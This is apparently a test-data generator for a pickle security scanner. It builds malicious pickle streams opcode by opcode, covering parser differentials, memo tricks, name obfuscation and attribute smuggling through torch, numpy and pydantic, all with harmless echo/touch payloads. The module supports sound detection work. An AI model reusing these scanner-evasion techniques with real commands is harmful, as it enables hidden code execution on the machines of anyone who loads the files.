"""Hand-assembled MALICIOUS pickles, one builder per THREATS.md technique (sections C–I).

Nothing here calls `pickle.dumps` on a hostile object: every stream is written opcode by opcode
with `Ops`, so the bytes are exactly the technique under test and nothing is ever executed.
Payload arguments are harmless (`echo fastscan-test`, `touch /tmp/fastscan-…`). Builders take a
seeded `random.Random` and vary protocol, padding, position and argument strings.

`Sample.globals` lists the imports a static reader sees in the stream (including pickles nested
in bytes operands), spelled like `GlobalRef.qualname` (`__builtin__` normalised to `builtins`).
`Sample.hidden` names the dangerous callable reached at load time when it is not spelled out.
"""

from __future__ import annotations

import base64
import dataclasses
import pickle
import pickletools
import random
import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

from fastscan.train.matrix import F_CALLABLES

__all__ = [
    "FAMILIES",
    "INJECTABLE",
    "PAYLOADS",
    "Builder",
    "Call",
    "G",
    "Ops",
    "Sample",
    "as_snippet",
    "forged_legacy_magic",
    "harmless_command",
]

FAMILIES = (
    "process",
    "exec",
    "nested_loader",
    "filesystem",
    "network",
    "import_resolver",
    "callback",
    "obfuscation",
    "structure",
    "tamper",
)


@dataclass(frozen=True)
class Sample:
    data: bytes
    threat: str  # THREATS.md row id, e.g. "C7"
    family: str  # one of FAMILIES
    globals: tuple[str, ...]  # literal imports a static reader must report
    hidden: tuple[str, ...] = ()  # dangerous targets reached only at load time (EXT, computed…)
    oracle_sees_all: bool = True  # a genops walk (all pickles, nested bytes) finds every global
    key: str = ""  # registry key (threat id plus variant)


@dataclass(frozen=True)
class G:
    """A global reference: emitted as GLOBAL or STACK_GLOBAL (or INST/OBJ operand)."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """`fn(*args)` through one of pickle's call opcodes."""

    fn: Any  # G or another expression
    args: tuple[Any, ...] = ()
    via: str = "reduce"  # reduce | obj | inst | newobj | newobj_ex
    kwargs: dict[str, Any] = field(default_factory=dict)


def _norm(module: str, name: str) -> str:
    return f"{'builtins' if module == '__builtin__' else module}.{name}"


class Ops:
    """A byte writer that emits opcodes in the forms CPython's pickler uses for `protocol`."""

    def __init__(self, protocol: int, *, memo: bool = True, stack_global: bool | None = None):
        self.protocol = protocol
        self.body = bytearray()
        self.memo_on = memo
        self.memo_next = 0
        # Protocol 4+ picklers use STACK_GLOBAL; older ones GLOBAL.
        self.stack_global = protocol >= 4 if stack_global is None else stack_global
        self.globals: list[str] = []
        self.newline = b"\n"  # protocol-0 INT/PUT/GET also accept b"\r\n" (C7)
        self.text_kind = pickle.UNICODE  # protocol-0 strings: UNICODE or STRING

    # -- primitives -------------------------------------------------------------------------
    def raw(self, data: bytes) -> Ops:
        self.body += data
        return self

    def op(self, code: bytes, arg: bytes = b"") -> Ops:
        return self.raw(code + arg)

    def put(self) -> int:
        index = self.memo_next
        self.memo_next += 1
        if self.protocol >= 4:
            self.op(pickle.MEMOIZE)
        elif self.protocol >= 1:
            self.op(*_indexed(pickle.BINPUT, pickle.LONG_BINPUT, index))
        else:
            self.op(pickle.PUT, b"%d" % index + self.newline)
        return index

    def put_at(self, index: int) -> Ops:
        """PUT at an explicit memo index (slot reuse, gaps), whatever the protocol."""
        if self.protocol >= 1:
            return self.op(*_indexed(pickle.BINPUT, pickle.LONG_BINPUT, index))
        return self.op(pickle.PUT, b"%d" % index + self.newline)

    def get(self, index: int) -> Ops:
        if self.protocol >= 1:
            return self.op(*_indexed(pickle.BINGET, pickle.LONG_BINGET, index))
        return self.op(pickle.GET, b"%d" % index + self.newline)

    def _maybe_put(self) -> None:
        if self.memo_on:
            self.put()

    def integer(self, n: int) -> Ops:
        if self.protocol == 0:
            return self.op(pickle.INT, b"%d" % n + self.newline)
        if 0 <= n < 256:
            return self.op(pickle.BININT1, bytes([n]))
        if 0 <= n < 65536:
            return self.op(pickle.BININT2, struct.pack("<H", n))
        if -(2**31) <= n < 2**31:
            return self.op(pickle.BININT, struct.pack("<i", n))
        if self.protocol >= 2:
            enc = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
            return self.op(pickle.LONG1, bytes([len(enc)]) + enc)
        return self.op(pickle.LONG, b"%dL\n" % n)

    def text(self, s: str, kind: bytes | None = None) -> Ops:
        """Push a str; `kind` forces an opcode (STRING/BINSTRING/SHORT_BINSTRING/UNICODE…)."""
        if kind is None:
            if self.protocol == 0:
                kind = self.text_kind
            elif self.protocol >= 4 and len(s.encode()) < 256:
                kind = pickle.SHORT_BINUNICODE
            else:
                kind = pickle.BINUNICODE
        if kind == pickle.UNICODE:
            text = s.replace("\\", "\\u005c").replace("\n", "\\u000a").replace("\r", "\\u000d")
            self.op(kind, text.encode("raw-unicode-escape") + b"\n")
        elif kind == pickle.STRING:
            self.op(kind, repr(s).encode("ascii") + b"\n")
        else:
            enc = s.encode("utf-8" if kind in _UNICODE_KINDS else "latin-1")
            size = {b"U": "<B", b"\x8c": "<B", b"T": "<I", b"X": "<I", b"\x8d": "<Q"}[kind]
            self.op(kind, struct.pack(size, len(enc)) + enc)
        self._maybe_put()
        return self

    def blob(self, b: bytes, kind: bytes | None = None) -> Ops:
        if kind is None:
            kind = pickle.SHORT_BINBYTES if len(b) < 256 else pickle.BINBYTES
        size = {b"C": "<B", b"B": "<I", b"\x8e": "<Q", b"\x96": "<Q"}[kind]
        self.op(kind, struct.pack(size, len(b)) + b)
        self._maybe_put()
        return self

    def glob(self, module: str, name: str, *, stack: bool | None = None) -> Ops:
        self.globals.append(_norm(module, name))
        if self.stack_global if stack is None else stack:
            self.text(module).text(name).op(pickle.STACK_GLOBAL)
        else:
            self.op(pickle.GLOBAL, module.encode() + b"\n" + name.encode() + b"\n")
        self._maybe_put()
        return self

    # -- values -----------------------------------------------------------------------------
    def value(self, v: Any) -> Ops:
        """Emit any supported value: literals, containers, G, Call, or a callable(Ops)."""
        if callable(v) and not isinstance(v, (G, Call, type)):
            v(self)
        elif isinstance(v, G):
            self.glob(v.module, v.name)
        elif isinstance(v, Call):
            self.call(v)
        elif v is None:
            self.op(pickle.NONE)
        elif isinstance(v, bool):
            if self.protocol >= 2:
                self.op(pickle.NEWTRUE if v else pickle.NEWFALSE)
            else:
                self.op(pickle.INT, b"01\n" if v else b"00\n")
        elif isinstance(v, int):
            self.integer(v)
        elif isinstance(v, float):
            if self.protocol == 0:
                self.op(pickle.FLOAT, repr(v).encode() + b"\n")
            else:
                self.op(pickle.BINFLOAT, struct.pack(">d", v))
        elif isinstance(v, str):
            self.text(v)
        elif isinstance(v, bytes):
            self.blob(v)
        elif isinstance(v, tuple):
            self.tuple_of(v)
        elif isinstance(v, list):
            self.list_of(v)
        elif isinstance(v, dict):
            self.dict_of(v)
        else:
            raise TypeError(f"cannot emit {type(v).__name__}")
        return self

    def tuple_of(self, items: Sequence[Any]) -> Ops:
        if not items and self.protocol >= 1:
            return self.op(pickle.EMPTY_TUPLE)
        if self.protocol >= 2 and len(items) <= 3:
            for item in items:
                self.value(item)
            self.op((pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3)[len(items) - 1])
        else:
            self.op(pickle.MARK)
            for item in items:
                self.value(item)
            self.op(pickle.TUPLE)
        self._maybe_put()
        return self

    def list_of(self, items: Sequence[Any]) -> Ops:
        if self.protocol == 0:
            self.op(pickle.MARK + pickle.LIST)
            self._maybe_put()
            for item in items:
                self.value(item).op(pickle.APPEND)
            return self
        self.op(pickle.EMPTY_LIST)
        self._maybe_put()
        if len(items) == 1:
            self.value(items[0]).op(pickle.APPEND)
        elif items:
            self.op(pickle.MARK)
            for item in items:
                self.value(item)
            self.op(pickle.APPENDS)
        return self

    def dict_of(self, items: dict[Any, Any]) -> Ops:
        if self.protocol == 0:
            self.op(pickle.MARK + pickle.DICT)
            self._maybe_put()
            for key, val in items.items():
                self.value(key).value(val).op(pickle.SETITEM)
            return self
        self.op(pickle.EMPTY_DICT)
        self._maybe_put()
        if items:
            self.op(pickle.MARK)
            for key, val in items.items():
                self.value(key).value(val)
            self.op(pickle.SETITEMS)
        return self

    def call(self, c: Call) -> Ops:
        if c.via == "inst":
            self.globals.append(_norm(c.fn.module, c.fn.name))
            self.op(pickle.MARK)
            for arg in c.args:
                self.value(arg)
            self.op(pickle.INST, c.fn.module.encode() + b"\n" + c.fn.name.encode() + b"\n")
        elif c.via == "obj":
            self.op(pickle.MARK).value(c.fn)
            for arg in c.args:
                self.value(arg)
            self.op(pickle.OBJ)
        elif c.via == "newobj":
            self.value(c.fn).tuple_of(c.args).op(pickle.NEWOBJ)
        elif c.via == "newobj_ex":
            self.value(c.fn).tuple_of(c.args).dict_of(c.kwargs).op(pickle.NEWOBJ_EX)
        else:
            self.value(c.fn).tuple_of(c.args).op(pickle.REDUCE)
        self._maybe_put()
        return self

    def finish(self, *, stop: bool = True, frame: bool = True) -> bytes:
        body = bytes(self.body) + (pickle.STOP if stop else b"")
        head = b""
        if self.protocol >= 2:
            head = pickle.PROTO + bytes([self.protocol])
        if frame and self.protocol >= 4 and len(body) >= 4:
            head += pickle.FRAME + struct.pack("<Q", len(body))
        return head + body


_UNICODE_KINDS = (pickle.SHORT_BINUNICODE, pickle.BINUNICODE, pickle.BINUNICODE8)


def _indexed(short: bytes, long: bytes, index: int) -> tuple[bytes, bytes]:
    if index < 256:
        return short, bytes([index])
    return long, struct.pack("<I", index)


# -- harmless arguments --------------------------------------------------------------------------
def harmless_command(rng: random.Random, tag: str = "x") -> str:
    n = rng.randrange(10_000)
    return rng.choice(
        [
            "echo fastscan-test",
            f"touch /tmp/fastscan-{tag}-{n}",
            f"echo fastscan-test-{n} > /dev/null",
            "true fastscan-test",
        ]
    )


def _code(rng: random.Random, tag: str) -> str:
    cmd = harmless_command(rng, tag)
    return rng.choice(
        [
            f"__import__('os').system({cmd!r})",
            f"import os; os.system({cmd!r})",
            f"print('fastscan-test {rng.randrange(999)}')",
        ]
    )


def _path(rng: random.Random, tag: str) -> str:
    return f"/tmp/fastscan-{tag}-{rng.randrange(10_000)}"


def _benign_value(rng: random.Random) -> dict[str, Any]:
    return {
        "epoch": rng.randrange(100),
        "lr": round(rng.uniform(1e-5, 1e-1), 6),
        "name": rng.choice(["resnet", "mlp", "bert-tiny", "lstm"]),
        "layers": [rng.randrange(1, 512) for _ in range(rng.randrange(1, 5))],
    }


def _protocol(rng: random.Random, lo: int = 0, hi: int = 5) -> int:
    return rng.randint(lo, hi)


def _ops(rng: random.Random, protocol: int) -> Ops:
    return Ops(protocol, memo=rng.random() < 0.7)


def _embed(rng: random.Random, payload: Any) -> Any:
    """Place the payload at a random spot of an ordinary-looking top-level object."""
    shape = rng.randrange(4)
    if shape == 0:
        return payload
    if shape == 1:
        entries = _benign_value(rng)
        keys = list(entries)
        keys.insert(rng.randrange(len(keys) + 1), rng.choice(["state", "extra", "meta", "hook"]))
        return {k: entries.get(k, payload) for k in keys}
    items: list[Any] = [rng.randrange(1000) for _ in range(rng.randrange(0, 4))]
    items.insert(rng.randrange(len(items) + 1), payload)
    return items if shape == 2 else tuple(items)


def _sample(key: str, family: str, ops: Ops, data: bytes, **kw: Any) -> Sample:
    names = tuple(dict.fromkeys(ops.globals + list(kw.pop("extra_globals", ()))))
    threat = key.split(":", maxsplit=1)[0].split(".", maxsplit=1)[0]
    return Sample(data=data, threat=threat, family=family, globals=names, key=key, **kw)


def _simple(key: str, family: str, rng: random.Random, payload: Any, *, lo: int = 0) -> Sample:
    ops = _ops(rng, _protocol(rng, lo))
    ops.value(_embed(rng, payload))
    return _sample(key, family, ops, ops.finish(frame=rng.random() < 0.8))


def _system(rng: random.Random, tag: str) -> Call:
    return Call(G("os", "system"), (harmless_command(rng, tag),))


def _inner_pickle(rng: random.Random, tag: str) -> tuple[bytes, list[str]]:
    ops = _ops(rng, _protocol(rng, 2))
    ops.value(_system(rng, tag))
    return ops.finish(), ops.globals


def as_snippet(data: bytes, memo_base: int = 1 << 16) -> bytes:
    """Turn one well-formed pickle into stack-neutral opcodes (payload, then POP).

    PROTO/FRAME/STOP are dropped and memo indices moved to `memo_base…` so the snippet can be
    spliced between any two opcodes of a benign stream without disturbing its memo.
    """
    ops = [(info, arg, pos or 0) for info, arg, pos in pickletools.genops(data)]
    if ops[-1][0].name != "STOP" or ops[-1][2] + 1 != len(data):
        raise ValueError("not a single well-formed pickle")
    out = bytearray()
    memo_count = 0
    for i, (info, arg, pos) in enumerate(ops[:-1]):
        end = ops[i + 1][2]
        name = info.name
        if name in ("PROTO", "FRAME"):
            continue
        if name in ("PUT", "BINPUT", "LONG_BINPUT", "MEMOIZE"):
            index = memo_count if name == "MEMOIZE" else int(str(arg))
            memo_count += 1
            out += pickle.LONG_BINPUT + struct.pack("<I", memo_base + index)
        elif name in ("GET", "BINGET", "LONG_BINGET"):
            out += pickle.LONG_BINGET + struct.pack("<I", memo_base + int(str(arg)))
        elif name == "STOP":
            raise ValueError("more than one pickle")
        else:
            out += data[pos:end]
    return bytes(out + pickle.POP)


Builder = Callable[[random.Random], Sample]
PAYLOADS: dict[str, Builder] = {}


def _register(key: str) -> Callable[[Builder], Builder]:
    def deco(fn: Builder) -> Builder:
        PAYLOADS[key] = fn
        return fn

    return deco


def _add_globals(sample: Sample, extra: Sequence[str]) -> Sample:
    return dataclasses.replace(sample, globals=tuple(dict.fromkeys((*sample.globals, *extra))))


def _f_builder(module: str, name: str, family: str, kind: str) -> Builder:
    """A section-F callable as its own family member, called with harmless arguments."""
    key = f"F:{module}.{name}"

    def build(rng: random.Random) -> Sample:
        tag = f"f{rng.randrange(1000)}"
        nested: list[str] = []
        args: tuple[Any, ...]
        if kind == "pickle":
            inner, nested = _inner_pickle(rng, tag)
            args = (inner,)
        else:
            args = _f_args(kind, rng, tag)
        # Dotted names need protocol 4 in the loader's find_class; bytes operands protocol 3.
        lo = 4 if "." in name else (3 if any(isinstance(a, bytes) for a in args) else 0)
        return _add_globals(_simple(key, family, rng, Call(G(module, name), args), lo=lo), nested)

    build.__name__ = f"build_F_{module}_{name}".replace(".", "_")
    return build


def _f_args(kind: str, rng: random.Random, tag: str) -> tuple[Any, ...]:
    cmd = harmless_command(rng, tag)
    sink = rng.choice([G("os", "system"), G("subprocess", "getoutput")])
    table: dict[str, tuple[Any, ...]] = {
        "cmd": (cmd,),
        "argv": (["sh", "-c", cmd],),
        "code": (_code(rng, tag),),
        "self_code": (None, _code(rng, tag)),
        "path": (_path(rng, tag),),
        "path_w": (_path(rng, tag), "w"),
        "url": (f"http://127.0.0.1:9/fastscan-{tag}",),
        "addr": (("127.0.0.1", 9),),
        "host": ("127.0.0.1",),
        "text_cmd": ("fastscan-test", cmd),
        "marshal": (b"\xe3" + bytes(rng.randrange(256) for _ in range(16)),),
        "yaml": (f"!!python/object/apply:os.system [{cmd!r}]",),
        "callback": (sink, cmd),
        "callback_self": (None, sink, cmd),
        "none": (),
    }
    return table[kind]


for _module, _name, _family, _kind in F_CALLABLES:
    PAYLOADS[f"F:{_module}.{_name}"] = _f_builder(_module, _name, _family, _kind)


def _target(rng: random.Random, tag: str) -> tuple[str, str, tuple[Any, ...]]:
    """A dangerous (module, name, args) for techniques that hide *how* it is reached."""
    cmd = harmless_command(rng, tag)
    return rng.choice(
        [
            ("os", "system", (cmd,)),
            ("subprocess", "getoutput", (cmd,)),
            ("builtins", "exec", (_code(rng, tag),)),
            ("posix", "system", (cmd,)),
        ]
    )


_VALID_OPCODES = {op.code for op in pickletools.opcodes}
_INVALID_OPCODES = bytes(b for b in range(256) if chr(b) not in _VALID_OPCODES)


# -- C: stream / parser differentials --------------------------------------------------------
@_register("C1")
def build_C1(rng: random.Random) -> Sample:
    """Payload first, then garbage: the loader runs REDUCE before it meets the corruption."""
    ops = _ops(rng, _protocol(rng))
    ops.value(_system(rng, "c1"))
    tail = rng.choice(
        [
            bytes([rng.choice(_INVALID_OPCODES)]) + rng.randbytes(rng.randint(0, 512)),
            pickle.BINUNICODE + struct.pack("<I", 1 << 20) + b"fastscan",  # truncated operand
            pickle.POP + rng.randbytes(rng.randint(1, 64)).replace(b".", b"\xff"),
        ]
    )
    return _sample("C1", "structure", ops, ops.finish(stop=False, frame=False) + tail)


@_register("C2")
def build_C2(rng: random.Random) -> Sample:
    """Trailing junk after STOP; `pickle.load` never looks at it."""
    sample = _simple("C2", "structure", rng, _system(rng, "c2"))
    junk = rng.choice(
        [b"\n" * rng.randint(1, 9), rng.randbytes(rng.randint(1, 2048)), b"fastscan junk\x00"]
    )
    return dataclasses.replace(sample, data=sample.data + junk)


def _benign_pickle(rng: random.Random) -> bytes:
    ops = _ops(rng, _protocol(rng))
    ops.value(_benign_value(rng))
    return ops.finish()


@_register("C3")
def build_C3(rng: random.Random) -> Sample:
    """Benign pickle(s), then the malicious one (loaders that call load() repeatedly)."""
    bad = _simple("C3", "structure", rng, _system(rng, "c3"))
    before = b"".join(_benign_pickle(rng) for _ in range(rng.randint(1, 3)))
    after = b"".join(_benign_pickle(rng) for _ in range(rng.randint(0, 2)))
    return dataclasses.replace(bad, data=before + bad.data + after)


@_register("C4")
def build_C4(rng: random.Random) -> Sample:
    """Junk padding between two streams; a resync budget smaller than the padding hides #2."""
    bad = _simple("C4", "structure", rng, _system(rng, "c4"))
    size = rng.choice([1, 3, 17, 255, 1024, 4097, 65_537, 1_100_000])
    fill = rng.choice([b"\x00", b"\xff", b"\xfe\xff"])
    pad = (fill * size)[:size] if rng.random() < 0.6 else rng.randbytes(size)
    data = _benign_pickle(rng) + pad + bad.data
    return dataclasses.replace(bad, data=data, oracle_sees_all=False)


@_register("C5")
def build_C5(rng: random.Random) -> Sample:
    """FRAME length that ends inside an operand (or before the payload); C ignores frame ends."""
    ops = Ops(rng.choice([4, 5]), memo=False)
    ops.blob(rng.randbytes(rng.randint(8, 200))).op(pickle.POP)
    head_len = len(ops.body)
    ops.value(_system(rng, "c5")).op(pickle.STOP)
    body = bytes(ops.body)
    variant = rng.randrange(3)
    if variant == 0:  # frame ends in the middle of the SHORT_BINBYTES operand
        frame_len = rng.randint(3, head_len - 2)
    elif variant == 1:  # frame covers only the benign prefix; payload runs unframed
        frame_len = head_len
    else:  # frame ends inside the payload's own opcodes
        frame_len = rng.randint(head_len + 1, len(body) - 1)
    head = pickle.PROTO + bytes([ops.protocol]) + pickle.FRAME + struct.pack("<Q", frame_len)
    return _sample("C5", "structure", ops, head + body)


@_register("C7")
def build_C7(rng: random.Random) -> Sample:
    """Protocol-0 text pickle: `\\n` or `\\r\\n` line ends, `__builtin__` names, STRING/UNICODE."""
    ops = Ops(0, memo=rng.random() < 0.8)
    ops.newline = rng.choice([b"\n", b"\r\n"])  # INT/PUT/GET tolerate \r\n in the C loader
    ops.text_kind = rng.choice([pickle.UNICODE, pickle.STRING])
    tag = "c7"
    payload = rng.choice(
        [
            Call(G("__builtin__", "eval"), (_code(rng, tag),)),
            Call(G("__builtin__", "exec"), (_code(rng, tag),)),
            _system(rng, tag),
            Call(G("subprocess", "check_output"), (["sh", "-c", harmless_command(rng, tag)],)),
        ]
    )
    ops.value(_embed(rng, payload))
    return _sample("C7", "process", ops, ops.finish())


@_register("C8")
def build_C8(rng: random.Random) -> Sample:
    """INST: MARK, args, `i module\\nname\\n` calls without GLOBAL+REDUCE."""
    cmd = harmless_command(rng, "c8")
    fn, args = rng.choice([(G("os", "system"), (cmd,)), (G("subprocess", "Popen"), (cmd,))])
    return _simple("C8", "process", rng, Call(fn, args, via="inst"), lo=0)


def _call_variant(key: str, via: str, lo: int) -> Builder:
    def build(rng: random.Random) -> Sample:
        cmd = harmless_command(rng, key)
        if via == "obj":
            call = Call(rng.choice([G("os", "system"), G("subprocess", "getoutput")]), (cmd,), via)
        else:  # NEWOBJ(_EX) calls cls.__new__: a dangerous class is the signal
            call = Call(G("subprocess", "Popen"), (["sh", "-c", cmd],), via, {"shell": False})
        return _simple(key, "process", rng, call, lo=lo)

    build.__name__ = f"build_{key.replace('.', '_')}"
    return build


PAYLOADS["C9.obj"] = _call_variant("C9.obj", "obj", 1)
PAYLOADS["C9.newobj"] = _call_variant("C9.newobj", "newobj", 2)
PAYLOADS["C9.newobj_ex"] = _call_variant("C9.newobj_ex", "newobj_ex", 4)


@_register("C10")
def build_C10(rng: random.Random) -> Sample:
    """The call's result is discarded with POP or POP_MARK, then a benign object is returned."""
    ops = _ops(rng, _protocol(rng, 1))
    with_mark = rng.random() < 0.5
    if with_mark:
        ops.op(pickle.MARK)
    ops.value(_system(rng, "c10"))
    ops.op(pickle.POP_MARK if with_mark else pickle.POP)
    ops.value(_benign_value(rng))
    return _sample("C10", "structure", ops, ops.finish())


def _ext(ops: Ops, code: int) -> None:
    if code < 256:
        ops.op(pickle.EXT1, bytes([code]))
    elif code < 65536:
        ops.op(pickle.EXT2, struct.pack("<H", code))
    else:
        ops.op(pickle.EXT4, struct.pack("<i", code))


@_register("C11")
def build_C11(rng: random.Random) -> Sample:
    """EXT1/2/4: the callable comes from copyreg's registry (optionally registered in-stream)."""
    ops = _ops(rng, _protocol(rng, 2))
    code = rng.choice([rng.randint(1, 255), rng.randint(256, 65535), rng.randint(65536, 2**30)])
    if rng.random() < 0.5:  # register first, so a stock interpreter resolves it too
        ops.value(Call(G("copyreg", "add_extension"), ("os", "system", code))).op(pickle.POP)
    _ext(ops, code)
    ops.tuple_of((harmless_command(rng, "c11"),)).op(pickle.REDUCE)
    return _sample("C11", "process", ops, ops.finish(), hidden=("os.system",))


@_register("C12")
def build_C12(rng: random.Random) -> Sample:
    """PERSID/BINPERSID with a persistent id that itself carries the payload."""
    ops = _ops(rng, _protocol(rng))
    if ops.protocol == 0:
        ops.op(pickle.PERSID, b"os.system\n").op(pickle.POP)
        ops.value(_system(rng, "c12"))
    else:
        pid = ("storage", _system(rng, "c12"), str(rng.randrange(99)), "cpu", rng.randint(1, 64))
        ops.tuple_of(pid).op(pickle.BINPERSID)
    return _sample("C12", "structure", ops, ops.finish())


@_register("C13")
def build_C13(rng: random.Random) -> Sample:
    """Payload, then a GLOBAL whose name bytes are not UTF-8: the parser dies after the call."""
    ops = _ops(rng, _protocol(rng))
    ops.value(_system(rng, "c13")).op(pickle.POP)
    bad = rng.choice([b"\xff\xfe", b"os\x80", b"caf\xe9", b"\xc3\x28"])
    ops.op(pickle.GLOBAL, bad + b"\n" + rng.choice([b"system", bad]) + b"\n")
    ops.tuple_of(()).op(pickle.REDUCE)
    return _sample("C13", "structure", ops, ops.finish())


@_register("C14")
def build_C14(rng: random.Random) -> Sample:
    """Duplicate or misplaced PROTO, or an unknown opcode after the payload."""
    ops = _ops(rng, _protocol(rng, 2))
    variant = rng.randrange(3)
    if variant == 1:
        ops.value(_benign_value(rng)).op(pickle.POP)
        ops.op(pickle.PROTO, bytes([rng.randint(2, 5)]))
    ops.value(_system(rng, "c14"))
    if variant == 2:
        ops.op(bytes([rng.choice(_INVALID_OPCODES)]))
    data = ops.finish(frame=False)
    if variant == 0:
        data = pickle.PROTO + bytes([rng.randint(2, 5)]) + data
    return _sample("C14", "structure", ops, data)


@_register("C16")
def build_C16(rng: random.Random) -> Sample:
    """No PROTO; a 90-byte BINBYTES first, so the file starts with `BZ` like bzip2/joblib."""
    ops = _ops(rng, rng.choice([1, 2, 3]))
    ops.value(_system(rng, "c16")).op(pickle.STOP)
    blob = b"h91AY&SY" + rng.randbytes(82)
    data = pickle.BINBYTES + struct.pack("<I", 90) + blob + pickle.POP + bytes(ops.body)
    return _sample("C16", "structure", ops, data)


# -- D: stack / memo resolution ----------------------------------------------------------------
def _pad_literals(ops: Ops, rng: random.Random) -> None:
    """Benign strings pushed and popped near STACK_GLOBAL, to fool look-back heuristics."""
    for _ in range(rng.randint(0, 4)):
        ops.text(rng.choice(["collections", "OrderedDict", "torch", "FloatStorage", "numpy"]))
        ops.op(pickle.POP)


def _finish_call(ops: Ops, args: tuple[Any, ...], key: str, family: str, **kw: Any) -> Sample:
    ops.tuple_of(args).op(pickle.REDUCE)
    return _sample(key, family, ops, ops.finish(), **kw)


@_register("D1")
def build_D1(rng: random.Random) -> Sample:
    """STACK_GLOBAL operands memoized early, popped, and replayed with GET."""
    module, name, args = _target(rng, "d1")
    ops = Ops(rng.choice([2, 3, 4, 5]), memo=False)
    slots = []
    for text in (module, name):
        ops.text(text)
        slots.append(ops.put())
        ops.op(pickle.POP)
        _pad_literals(ops, rng)
    ops.get(slots[0]).get(slots[1]).op(pickle.STACK_GLOBAL)
    ops.globals.append(_norm(module, name))
    return _finish_call(ops, args, "D1", "process")


@_register("D2")
def build_D2(rng: random.Random) -> Sample:
    """PUT stores the stack top, not the previous opcode's argument."""
    module, name, args = _target(rng, "d2")
    ops = Ops(rng.choice([4, 5]), memo=False)
    slots = []
    for real, decoy in ((module, "collections"), (name, "OrderedDict")):
        ops.text(real).text(decoy).op(pickle.POP)
        slots.append(ops.memo_next)
        ops.put_at(ops.memo_next).op(pickle.POP)
        ops.memo_next += 1
    ops.get(slots[0]).get(slots[1]).op(pickle.STACK_GLOBAL)
    ops.globals.append(_norm(module, name))
    return _finish_call(ops, args, "D2", "process")


@_register("D3")
def build_D3(rng: random.Random) -> Sample:
    """GET of a memo key a naive reader lacks: implicit MEMOIZE/gapped PUT, or absent after."""
    module, name, args = _target(rng, "d3")
    ops = Ops(rng.choice([4, 5]), memo=False)
    if rng.random() < 0.5:  # key exists for the loader (gapped index), missing for naive readers
        first = rng.randint(300, 70_000)
        ops.text(module).put_at(first).op(pickle.POP)
        ops.text(name).op(pickle.MEMOIZE).op(pickle.POP)  # MEMOIZE uses len(memo) == 1
        ops.get(first).get(1).op(pickle.STACK_GLOBAL)
        ops.globals.append(_norm(module, name))
        return _finish_call(ops, args, "D3", "process")
    ops.value(Call(G(module, name), args))  # payload first, then a key that never existed
    ops.op(pickle.POP).get(rng.randint(0, 255))
    return _sample("D3", "process", ops, ops.finish())


@_register("D4")
def build_D4(rng: random.Random) -> Sample:
    """Memo slots first hold an int / dict, later overwritten with the operand strings."""
    module, name, args = _target(rng, "d4")
    ops = Ops(rng.choice([4, 5]), memo=False)
    a, b = rng.sample(range(0, 200), 2)
    ops.integer(rng.randrange(1 << 20)).put_at(a).op(pickle.POP)
    ops.dict_of({"k": rng.randrange(9)}).put_at(b).op(pickle.POP)
    ops.text(module).put_at(a).op(pickle.POP)
    ops.text(name).put_at(b).op(pickle.POP)
    ops.get(a).get(b).op(pickle.STACK_GLOBAL)
    ops.globals.append(_norm(module, name))
    return _finish_call(ops, args, "D4", "process")


@_register("D5")
def build_D5(rng: random.Random) -> Sample:
    """STACK_GLOBAL fed by STRING / BINSTRING / SHORT_BINSTRING (decoded to str by the loader)."""
    module, name, args = _target(rng, "d5")
    ops = Ops(rng.choice([2, 3, 4, 5]), memo=rng.random() < 0.5)
    for text in (module, name):
        ops.text(text, rng.choice([pickle.STRING, pickle.BINSTRING, pickle.SHORT_BINSTRING]))
    ops.op(pickle.STACK_GLOBAL)
    ops.globals.append(_norm(module, name))
    return _finish_call(ops, args, "D5", "process")


def _rot13(text: str) -> str:
    return text.translate(
        str.maketrans(_ALPHA, _ALPHA[13:26] + _ALPHA[:13] + _ALPHA[39:] + _ALPHA[26:39])
    )


_ALPHA = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


@_register("D6")
def build_D6(rng: random.Random) -> Sample:
    """STACK_GLOBAL operands computed at load time (rot13, concatenation, str.join)."""
    module, name, args = _target(rng, "d6")
    ops = Ops(rng.choice([4, 5]), memo=rng.random() < 0.5)
    how = rng.randrange(3)
    for text in (module, name):
        cut = max(1, len(text) // 2)
        if how == 0:
            ops.value(Call(G("codecs", "decode"), (_rot13(text), "rot13")))
        elif how == 1:
            ops.value(Call(G("operator", "add"), (text[:cut], text[cut:])))
        else:
            ops.value(Call(G("builtins", "str.join"), ("", list(text))))
    ops.op(pickle.STACK_GLOBAL)
    return _finish_call(ops, args, "D6", "import_resolver", hidden=(_norm(module, name),))


@_register("D7")
def build_D7(rng: random.Random) -> Sample:
    """BUILD on an allowlisted module sets attributes that later serve as STACK_GLOBAL operands."""
    module, name, args = _target(rng, "d7")
    attrs = rng.sample(["_rebuild_tensor", "_rebuild_parameter", "_rebuild_tensor_v2"], 2)
    ops = Ops(rng.choice([2, 3, 4, 5]), memo=False, stack_global=False)
    ops.glob("torch", "_utils").dict_of({attrs[0]: module, attrs[1]: name}).op(pickle.BUILD)
    ops.op(pickle.POP)
    for attr in attrs:
        ops.glob("torch._utils", attr)
    ops.op(pickle.STACK_GLOBAL)
    return _finish_call(ops, args, "D7", "tamper", hidden=(_norm(module, name),))


@_register("D8")
def build_D8(rng: random.Random) -> Sample:
    """Attribute smuggling: BUILD stores strings on `numpy.prod`; dotted GLOBAL reads them back."""
    module, name, args = _target(rng, "d8")
    host = rng.choice(["prod", "size", "sum"])
    ops = Ops(rng.choice([4, 5]), memo=False, stack_global=rng.random() < 0.5)
    ops.glob("numpy", host).dict_of({"a": module, "b": name}).op(pickle.BUILD).op(pickle.POP)
    ops.glob("numpy", f"{host}.a").glob("numpy", f"{host}.b").op(pickle.STACK_GLOBAL)
    return _finish_call(ops, args, "D8", "tamper", hidden=(_norm(module, name),))


@_register("D9")
def build_D9(rng: random.Random) -> Sample:
    """SETITEM into pydantic's lazy-import registry, then `GLOBAL pydantic Popen`."""
    ops = Ops(rng.choice([2, 3, 4, 5]), memo=False)
    ops.glob("pydantic", "_dynamic_imports").text("Popen").tuple_of(("pydantic", "subprocess"))
    ops.op(pickle.SETITEM).op(pickle.POP)
    ops.glob("pydantic", "Popen")
    args = (["sh", "-c", harmless_command(rng, "d9")],)
    return _finish_call(ops, args, "D9", "tamper", hidden=("subprocess.Popen",))


# -- E: name-resolution indirection --------------------------------------------------------------
